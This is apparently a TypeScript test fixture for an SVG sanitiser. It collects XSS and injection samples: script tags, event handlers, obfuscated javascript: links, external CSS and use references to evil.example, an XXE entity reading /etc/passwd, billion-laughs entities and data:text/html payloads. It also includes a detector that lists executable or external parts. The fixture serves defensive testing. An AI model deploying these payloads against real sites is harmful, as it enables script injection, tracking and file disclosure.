/**
 * A corpus of SVG attacks for the sanitiser's specs (the pure one beside the adapter and the API one in
 * app/), and an independent check of stored markup: `executableParts` parses it the two ways a browser
 * may (as an SVG document, and as HTML markup put into a page) and lists everything in the trees that
 * could run script or load from outside the drawing.
 */
import { BRAND_SVG_SIZES, type BrandSvgField } from '@bahati/contracts';
import { JSDOM } from 'jsdom';

export interface SvgAttack {
  name: string;
  field: BrandSvgField;
  markup: string;
  /** The sanitiser's report, line by line (without the field's name). */
  removed: string[];
  /** An element of the drawing that must survive (its local name). */
  keeps: string;
}

const SVG = 'http://www.w3.org/2000/svg';
const XLINK = 'http://www.w3.org/1999/xlink';

/** An SVG of the field's size around `inner`, with `attributes` on the root. */
export function drawing(field: BrandSvgField, inner: string, attributes = ''): string {
  const { width, height } = BRAND_SVG_SIZES[field];
  return `<svg xmlns="${SVG}" xmlns:xlink="${XLINK}" width="${width}" height="${height}" viewBox="0 0 ${width} ${height}"${attributes}>${inner}</svg>`;
}

const chip = '<circle cx="35" cy="35" r="30" fill="#c3303c"/>';
const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('');

export const SVG_ATTACKS: SvgAttack[] = [
  {
    name: '<script> element',
    field: 'chip1Svg',
    markup: drawing('chip1Svg', `<script>alert(document.cookie)</script>${chip}<script type="text/javascript" xlink:href="https://evil.example/x.js"/>`),
    removed: ['<script> element'],
    keeps: 'circle',
  },
  {
    name: 'onload, onclick and onmouseover handlers on several elements',
    field: 'logoSvg',
    markup: drawing(
      'logoSvg',
      '<g onclick="alert(1)"><circle cx="24" cy="24" r="20" onmouseover="alert(2)"/><text x="4" y="30" ONCLICK="alert(3)">B</text></g><image width="1" height="1" onload="alert(4)" href="#none"/>',
      ' onload="alert(0)"',
    ),
    removed: ['onload attribute on <svg>', 'onclick attribute on <g>', 'onmouseover attribute on <circle>', 'ONCLICK attribute on <text>', 'onload attribute on <image>'],
    keeps: 'circle',
  },
  {
    name: 'javascript: in href and in xlink:href',
    field: 'cardSvg',
    markup: drawing('cardSvg', '<a href="javascript:alert(1)"><rect width="60" height="80"/></a><a xlink:href="javascript:alert(2)"><text y="20">x</text></a>'),
    removed: ['href attribute on <a> (javascript: address)', 'xlink:href attribute on <a> (javascript: address)'],
    keeps: 'rect',
  },
  {
    name: 'javascript: hidden by entities, white space and case',
    field: 'taglineSvg',
    markup: drawing(
      'taglineSvg',
      '<a href="jav&#x09;ascript:alert(1)"><text y="20">a</text></a><a xlink:href="&#106;&#97;vascript:alert(2)"><text y="30">b</text></a>' +
        '<a href=" JaVaScRiPt:alert(3)"><text y="40">c</text></a><a href="java&#x0A;script&#x3A;alert(4)"><rect width="1" height="1"/></a>',
    ),
    removed: ['href attribute on <a> (javascript: address)', 'xlink:href attribute on <a> (javascript: address)'],
    keeps: 'text',
  },
  {
    name: 'foreignObject with HTML inside',
    field: 'tableLargeSvg',
    markup: drawing(
      'tableLargeSvg',
      '<rect width="800" height="600" fill="#136a43"/><foreignObject width="800" height="600"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/><script>alert(2)</script><iframe src="https://evil.example"></iframe></body></foreignObject>',
    ),
    removed: ['<foreignObject> element'],
    keeps: 'rect',
  },
  {
    name: 'CSS url() in <style> and in style=',
    field: 'tableSmallSvg',
    markup: drawing(
      'tableSmallSvg',
      '<defs><linearGradient id="g"><stop offset="0" stop-color="#1f8a59"/></linearGradient></defs>' +
        '<style>rect { fill: url("https://evil.example/p.svg#p") }</style><style>.felt { fill: url(#g) }</style>' +
        '<rect class="felt" width="400" height="500" style="fill: url(#g)"/><rect width="10" height="10" style="background-image: url(https://tracker.example/p.png)"/>' +
        '<rect width="10" height="10" fill="url(//evil.example/p.svg#p)"/><rect width="10" height="10" style="fill: u\\72l(https://evil.example/p)"/>',
    ),
    removed: [
      '<style> element (loads from outside the drawing)',
      'style attribute on <rect> (loads from outside the drawing)',
      'fill attribute on <rect> (loads from outside the drawing)',
    ],
    keeps: 'linearGradient',
  },
  {
    name: '@import in <style>',
    field: 'chip2Svg',
    markup: drawing('chip2Svg', `<style>@import url("https://evil.example/x.css");</style><style>@IMPORT 'https://evil.example/y.css'; circle { stroke: #fff }</style>${chip}`),
    removed: ['<style> element (loads from outside the drawing)'],
    keeps: 'circle',
  },
  {
    name: 'external <use>',
    field: 'chip3Svg',
    markup: drawing(
      'chip3Svg',
      `<defs><g id="face">${chip}</g></defs><use href="https://evil.example/sprite.svg#x"/><use xlink:href="//evil.example/s.svg#y"/><use href="#face"/><use xlink:href="#face" x="1"/>`,
    ),
    removed: ['<use> element (external reference)'],
    keeps: 'use',
  },
  {
    name: '<!DOCTYPE> with an external entity (XXE)',
    field: 'chip4Svg',
    markup: `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY remote SYSTEM "https://evil.example/e.xml">]>${drawing('chip4Svg', `${chip}<text x="4" y="40">&xxe;&remote;</text>`)}`,
    removed: ['<!DOCTYPE> declaration with <!ENTITY> definitions', '&xxe; entity reference', '&remote; entity reference'],
    keeps: 'circle',
  },
  {
    name: '<!DOCTYPE> with nested entities (billion laughs)',
    field: 'chip1Svg',
    markup: `<!DOCTYPE svg [<!ENTITY lol "lol">${laughs}]>${drawing('chip1Svg', `${chip}<text x="4" y="40">&lol9;</text>`)}`,
    removed: ['<!DOCTYPE> declaration with <!ENTITY> definitions', '&lol9; entity reference'],
    keeps: 'circle',
  },
  {
    name: '<iframe>, <embed> and <object>',
    field: 'tableLargeSvg',
    markup: drawing(
      'tableLargeSvg',
      '<iframe src="https://evil.example"/><rect width="800" height="600"/><embed src="https://evil.example/x.swf"/><object data="https://evil.example/x.html"/>' +
        '<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"></iframe>',
    ),
    removed: ['<iframe> element', '<embed> element', '<object> element', '<iframe> element (not SVG)'],
    keeps: 'rect',
  },
  {
    name: '<animate> that sets href to javascript:',
    field: 'cardSvg',
    markup: drawing('cardSvg', '<a id="card"><rect width="60" height="80"/><animate attributeName="href" to="javascript:alert(1)" begin="0s"/></a><animate href="#card" attributeName="xlink:href" values="javascript:alert(2)"/>'),
    removed: ['<animate> element (animates a link)'],
    keeps: 'rect',
  },
  {
    name: '<set> that sets href',
    field: 'logoSvg',
    markup: drawing('logoSvg', '<a><circle cx="24" cy="24" r="20"/><set attributeName="xlink:href" to="javascript:alert(1)"/><set attributeName=" href " to="data:text/html,&lt;script&gt;alert(2)&lt;/script&gt;"/></a>'),
    removed: ['<set> element (animates a link)'],
    keeps: 'circle',
  },
  {
    name: '<a href> to another site',
    field: 'taglineSvg',
    markup: drawing('taglineSvg', '<a href="https://evil.example/phish" target="_top"><text x="1" y="24">Bahati</text></a><a xlink:href="//evil.example"><text y="40">x</text></a>'),
    removed: ['href attribute on <a> (https: address)', 'xlink:href attribute on <a> (address on another site)', 'target attribute on <a>'],
    keeps: 'text',
  },
  {
    name: 'data:text/html hrefs',
    field: 'chip2Svg',
    markup: drawing(
      'chip2Svg',
      `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">${chip}</a><a xlink:href="data:text/html,&lt;script&gt;alert(2)&lt;/script&gt;"><text y="20">x</text></a>`,
    ),
    removed: ['href attribute on <a> (data: address)', 'xlink:href attribute on <a> (data: address)'],
    keeps: 'circle',
  },
  {
    name: 'markup hidden in CDATA',
    field: 'chip3Svg',
    markup: drawing(
      'chip3Svg',
      `${chip}<style><![CDATA[</style><script>alert(1)</script><style>]]></style><text x="4" y="40"><![CDATA[</text><script>alert(2)</script>]]></text><script><![CDATA[alert(3)]]></script>`,
    ),
    removed: ['<script> element'],
    keeps: 'circle',
  },
  {
    name: 'processing instructions and comments',
    field: 'chip4Svg',
    markup: `<?xml-stylesheet type="text/css" href="https://evil.example/x.css"?>${drawing('chip4Svg', `<!-- --><script>alert(1)</script> -->${chip}<?php echo 1; ?>`)}`,
    removed: ['<?xml-stylesheet?> processing instruction', 'comment', '<script> element', '<?php?> processing instruction'],
    keeps: 'circle',
  },
  {
    name: 'images from outside the drawing',
    field: 'logoSvg',
    markup: drawing(
      'logoSvg',
      '<image width="48" height="48" href="https://tracker.example/p.png"/><image width="48" height="48" xlink:href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="/>' +
        '<image width="48" height="48" href="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="/><feImage href="https://evil.example/f.png"/>',
    ),
    removed: ['href attribute on <image> (https: address)', 'xlink:href attribute on <image> (data: address)', 'href attribute on <feImage> (https: address)'],
    keeps: 'image',
  },
  {
    name: 'HTML elements that would leave the <svg> in a page',
    field: 'tableSmallSvg',
    markup: drawing(
      'tableSmallSvg',
      '<p><style><img src="x" onerror="alert(1)"/></style></p><rect width="400" height="500"/><math><mi xlink:href="javascript:alert(2)">x</mi></math><img src="x" onerror="alert(3)"/>',
    ),
    removed: ['<p> element (not SVG)', '<math> element (not SVG)', '<img> element (not SVG)'],
    keeps: 'rect',
  },
  {
    name: 'xml:base and script addresses in other attributes',
    field: 'chip1Svg',
    markup: drawing('chip1Svg', `<a xml:base="javascript:alert(1)//" href="#c">${chip}</a><circle id="c" cx="1" cy="1" r="1" filter="javascript:alert(2)"/>`),
    removed: ['xml:base attribute on <a> (changes where links point)', 'filter attribute on <circle> (script address)'],
    keeps: 'circle',
  },
];

const EMBEDDING = new Set(['script', 'foreignobject', 'iframe', 'embed', 'object', 'applet', 'frame', 'handler', 'listener', 'base', 'link', 'meta', 'img', 'audio', 'video']);
// eslint-disable-next-line no-control-regex -- control characters are what a browser ignores in an address
const compact = (value: string) => value.replace(/[\s\u0000-\u001f\u007f-\u00a0]/g, '').toLowerCase();
const local = (value: string) => /^#[\w.:-]+$/.test(value.trim());
const raster = (value: string) => /^data:image\/(png|jpe?g|gif|webp);base64,/.test(compact(value));
const cssLoads = (css: string) => {
  const text = css.toLowerCase();
  if (text.includes('\\') || text.includes('@import') || /image-set\(|image\(|expression\(/.test(text)) return true;
  return (text.match(/url\(/g) ?? []).length !== (text.match(/url\(\s*["']?#[\w.:-]+["']?\s*\)/g) ?? []).length;
};

function walk(root: Node, found: string[]): void {
  const visit = (node: Node) => {
    if (node.nodeType === 7) found.push(`processing instruction <?${(node as ProcessingInstruction).target}?>`);
    if (node.nodeType === 10) found.push('doctype');
    if (node.nodeType === 1) {
      const el = node as Element;
      const name = el.localName.toLowerCase();
      if (el.namespaceURI !== SVG) found.push(`non-SVG element <${el.nodeName}>`);
      if (EMBEDDING.has(name)) found.push(`<${el.nodeName}>`);
      if (name === 'style' && cssLoads(el.textContent ?? '')) found.push('<style> that loads');
      if (['animate', 'set', 'animatetransform', 'animatemotion'].includes(name) && /href/i.test(el.getAttribute('attributeName') ?? '')) found.push(`<${name}> of a link`);
      for (const attr of Array.from(el.attributes)) {
        const n = attr.localName.toLowerCase();
        if (n.startsWith('on')) found.push(`${attr.name} handler`);
        if (n === 'href' && !local(attr.value) && !(name === 'image' && raster(attr.value))) found.push(`${attr.name}="${attr.value}" on <${name}>`);
        if (/(java|vb)script:/.test(compact(attr.value))) found.push(`script address in ${attr.name}`);
        if ((n === 'style' || attr.value.includes('url(')) && cssLoads(attr.value)) found.push(`${attr.name} that loads`);
        if (n === 'base') found.push('xml:base');
      }
    }
    for (const child of Array.from(node.childNodes)) visit(child);
  };
  visit(root);
}

const window = new JSDOM('').window;

/**
 * Everything in `markup` that could run or load from outside, read as an SVG file would be (XML) and as
 * markup placed into an HTML page would be. Empty for safe markup.
 */
export function executableParts(markup: string): string[] {
  const found: string[] = [];
  if (/<!DOCTYPE|<!ENTITY/i.test(markup)) found.push('DTD in the text');
  const xml = new window.DOMParser().parseFromString(markup, 'image/svg+xml');
  if (xml.documentElement.localName !== 'svg' || xml.documentElement.namespaceURI !== SVG) found.push(`XML root <${xml.documentElement.nodeName}>`);
  walk(xml as unknown as Node, found);
  const page = new window.DOMParser().parseFromString(`<!DOCTYPE html><html><body><div>${markup}</div></body></html>`, 'text/html');
  const div = page.body.firstElementChild!;
  if (div.childNodes.length !== 1 || div.firstElementChild?.localName !== 'svg') found.push('HTML: more than the <svg> in the page');
  if (div.firstElementChild) walk(div.firstElementChild as unknown as Node, found);
  return found;
}

/** The local names of every element of the markup, read as XML. */
export function elementNames(markup: string): string[] {
  const xml = new window.DOMParser().parseFromString(markup, 'image/svg+xml');
  return Array.from(xml.getElementsByTagName('*')).map((e) => e.localName);
}
